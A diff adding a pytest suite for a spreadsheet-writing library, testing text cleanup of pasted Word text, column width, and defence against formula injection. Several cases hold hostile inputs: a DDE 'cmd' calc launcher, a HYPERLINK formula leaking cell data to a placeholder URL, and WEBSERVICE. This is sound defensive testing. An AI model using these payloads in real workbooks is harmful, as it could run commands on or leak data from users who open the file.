@@ -1,0 +1,74 @@
+"""The sheet-writing kit (xlsx/text.py, xlsx/sheet.py): the one text path into
+cells, the one width rule, formulas with cached values.  Cases are the texts
+clerks paste from Word and WPS, and the injection strings of issue 10."""
+import zipfile
+
+import openpyxl
+import pytest
+
+from xltools.xlsx.sheet import CF_ERROR, HEADER, MONEY, Book
+from xltools.xlsx.text import cell_text, display_width, needs_quote_prefix, text_lines
+
+CLEAN = [
+    # (pasted text,                      what the cell holds)
+    ("市民中心\x0b大厅运转",              "市民中心\n大厅运转"),      # Word manual line break
+    ("窗口补贴\x07",                      "窗口补贴"),                # Word table cell mark
+    ("第一页\x0c第二页",                  "第一页\n第二页"),          # page break
+    ("一件事\r\n一次办",                  "一件事\n一次办"),
+    ("a\x00b",                            "ab"),
+    ("信创\ud800工程",                    "信创\ufffd工程"),          # lone surrogate
+    ("保留 _x000B_ 原样",                 "保留 _x000B_ 原样"),       # literal escape text stays
+    ("\t=2+2",                            "\t=2+2"),
+]
+
+
+@pytest.mark.parametrize("pasted, held", CLEAN)
+def test_cell_text(pasted, held):
+    assert cell_text(pasted) == held
+
+
+FORMULA_LIKE = [
+    ("=cmd|' /C calc'!A0", True), ('=HYPERLINK("http://x"&A1,"y")', True), ("+1", True),
+    ("-1", True), ("@SUM(A1)", True), ("\t=2+2", True), ("　=1", True),
+    ("项目名称", False), ("1=1", False), ("≥90%", False),
+]
+
+
+@pytest.mark.parametrize("text, formula_like", FORMULA_LIKE)
+def test_quote_prefix(text, formula_like):
+    assert needs_quote_prefix(text) is formula_like
+
+
+@pytest.mark.parametrize("text, width", [("abc", 3), ("数据资源中心", 12), ("A级", 3), ("（万元）", 8)])
+def test_display_width(text, width):
+    assert display_width(text) == width
+
+
+@pytest.mark.parametrize("value, width, lines", [
+    (None, 10, 1), (95.5, 10, 1), ("", 10, 1), ("一二三四", 9, 1), ("一二三四五", 9, 2),
+    ("甲\n乙\n丙", 20, 3), ("一二三四五六七八九十" * 2, 10, 5),
+])
+def test_text_lines(value, width, lines):
+    assert text_lines(value, width) == lines
+
+
+def test_clerk_text_is_never_a_formula_and_our_formulas_carry_values(tmp_path):
+    path = tmp_path / "k.xlsx"
+    hostile = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x"&A1,"y")', "=WEBSERVICE(A1)", "\t=2+2"]
+    with Book(path) as book:
+        sheet = book.sheet("项目1")
+        for r, text in enumerate(hostile, start=1):
+            sheet.value(r, 1, text)
+        sheet.number(6, 1, 214.78, MONEY)
+        sheet.number(6, 2, 239.8, MONEY)
+        sheet.formula(6, 3, "A6/B6", 214.78 / 239.8, MONEY)
+        sheet.merge(7, 1, 7, 3, "=1+1", HEADER)
+        sheet.conditional("C6", "C6>1", CF_ERROR)
+    with zipfile.ZipFile(path) as zf:
+        xml = zf.read("xl/worksheets/sheet1.xml").decode()
+    assert xml.count("<f>") == 1 and "<f>A6/B6</f><v>0.895" in xml
+    ws = openpyxl.load_workbook(path)["项目1"]
+    for r, text in enumerate(hostile, start=1):
+        assert ws.cell(r, 1).data_type == "s" and ws.cell(r, 1).value == text
+        assert ws.cell(r, 1).quotePrefix
+    assert ws["A7"].value == "=1+1" and ws["A7"].data_type == "s"
